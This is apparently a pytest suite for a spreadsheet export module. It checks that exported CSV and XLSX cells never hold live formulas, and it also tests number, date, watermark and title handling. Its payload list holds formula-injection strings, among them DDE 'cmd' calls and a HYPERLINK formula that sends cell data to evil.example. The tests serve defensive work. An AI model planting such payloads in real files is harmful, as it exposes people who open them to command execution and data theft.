"""Files for spreadsheets: nothing in them runs, and nothing is lost."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.sheets import csv_bytes, is_formula, xlsx_bytes

DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "|calc",
    "%0A=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \u3000\xa0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "-2+3+cmd|' /C calc'!A0",
]
MARK = "exported by 王芳 & 李=1 2026-05-01 08:00"


def read_csv(content):
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content):
    return load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_begins_like_a_formula_is_a_text_in_both_files(text):
    ((name,), (cell,)) = read_csv(csv_bytes([text], [[text]]))
    assert name == cell
    assert cell.startswith("'")
    sheet = read_xlsx(xlsx_bytes(text, [text], [[text]])).active
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
        assert cell.quotePrefix
        assert cell.number_format == "@"


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_file_holds_a_formula_wherever_the_text_stands(text):
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes("t", ["a"], [[text, None, text]], watermark=text))) as book:
        sheets = [book.read(name) for name in book.namelist() if "worksheets" in name]
    assert sheets
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)


@given(st.text(max_size=30))
def test_any_text_is_harmless_in_csv(text):
    (_, (cell,)) = read_csv(csv_bytes(["name"], [[text]]))
    assert not is_formula(cell)
    assert "\t" not in cell
    assert "\r" not in cell


@given(st.text(max_size=30), st.text(max_size=30))
def test_any_text_is_a_text_in_a_workbook(title, text):
    sheet = read_xlsx(xlsx_bytes(title, ["name"], [[text]])).active
    assert sheet["A2"].data_type != "f"
    assert sheet["A2"].value is None or isinstance(sheet["A2"].value, str)


def test_ordinary_texts_stand_as_they_are():
    row = ["王芳", "幸福路 12 号", "a;b,c", 'says "hello"', "first\nsecond", "a=b", "12-3", ""]
    assert read_csv(csv_bytes(["x"] * 8, [row]))[1] == row
    sheet = read_xlsx(xlsx_bytes("t", ["x"] * 8, [row])).active
    assert [cell.value or "" for cell in sheet[2]] == row


@pytest.mark.parametrize("code", ["110101199003074514", "310105000001", "0012", "００１２", "1" * 40])
def test_a_long_code_keeps_its_digits(code):
    assert read_csv(csv_bytes(["code"], [[code]]))[1] == [f"'{code}"]
    cell = read_xlsx(xlsx_bytes("t", ["code"], [[code]])).active["A2"]
    assert (cell.value, cell.data_type) == (code, "s")


def test_a_large_number_keeps_its_digits_and_a_small_one_stays_a_number():
    assert read_csv(csv_bytes(["n"], [[10**18, 117_700, -5, 2.5]]))[1] == [f"'{10**18}", "117700", "-5", "2.5"]
    row = read_xlsx(xlsx_bytes("t", ["n"], [[10**18, 117_700, -5, 2.5]])).active[2]
    assert [cell.value for cell in row] == [str(10**18), 117_700, -5, 2.5]


def test_what_is_no_number_is_left_out():
    assert read_csv(csv_bytes(["n"], [[float("nan"), float("inf"), None]]))[1] == ["", "", ""]
    assert [cell.value for cell in read_xlsx(xlsx_bytes("t", ["n"], [[float("nan"), 1]])).active[2]] == [None, 1]


def test_times_are_chinas_and_dates_are_dates():
    row = [date(2026, 5, 1), datetime(2026, 5, 1, 20, 30, tzinfo=UTC)]
    assert read_csv(csv_bytes(["d", "t"], [row]))[1] == ["2026-05-01", "2026-05-02 04:30"]
    day, instant = read_xlsx(xlsx_bytes("t", ["d", "t"], [row])).active[2]
    assert day.value == datetime(2026, 5, 1)  # noqa: DTZ001
    assert instant.value == datetime(2026, 5, 2, 4, 30)  # noqa: DTZ001
    assert day.is_date


def test_control_characters_are_left_out():
    text = "a\x00b\x1bc\u202ed\x85e\ud800f\tg\r\nh"
    assert read_csv(csv_bytes(["x"], [[text]]))[1] == ["abcdef g\nh"]
    assert read_xlsx(xlsx_bytes("t", ["x"], [[text]])).active["A2"].value == "abcdef g\nh"


def test_the_watermark_stands_everywhere():
    assert read_csv(csv_bytes(["x"], [["y"]], watermark=MARK)) == [[MARK], ["x"], ["y"]]
    book = read_xlsx(xlsx_bytes("t", ["x"], [["y"]], watermark=MARK))
    sheet = book.active
    assert [sheet["A1"].value, sheet["A2"].value, sheet["A3"].value] == [MARK, "x", "y"]
    assert {book.properties.creator, book.properties.description, book.properties.keywords} == {MARK}
    assert sheet.oddHeader.center.text.replace("&&", "&") == MARK
    assert sheet.oddFooter.center.text.replace("&&", "&") == MARK


def test_a_watermark_is_no_formula_and_no_code_of_a_header():
    mark = "=1+1 &P&L" + "x" * 500
    assert read_csv(csv_bytes(["x"], [], watermark=mark))[0] == [f"'{mark}"]
    sheet = read_xlsx(xlsx_bytes("t", ["x"], [], watermark=mark)).active
    assert sheet["A1"].data_type == "s"
    assert "&P" not in sheet.oddHeader.center.text.replace("&&", "")
    assert len(sheet.oddHeader.center.text) < 255


def test_without_a_watermark_the_first_row_is_the_heading():
    assert read_csv(csv_bytes(["x"], []))[0] == ["x"]
    sheet = read_xlsx(xlsx_bytes("t", ["x"], [])).active
    assert sheet["A1"].value == "x"
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"


@pytest.mark.parametrize("title", ["", "'", "[]:*?/\\", "\x00", "长" * 50, "History/2026"])
def test_any_title_makes_a_sheet_that_opens(title):
    assert 1 <= len(read_xlsx(xlsx_bytes(title, ["x"], [])).active.title) <= 31


def test_a_very_long_text_is_cut_to_what_a_cell_holds():
    assert len(read_xlsx(xlsx_bytes("t", ["x"], [["x" * 40_000]])).active["A2"].value) == 32_000
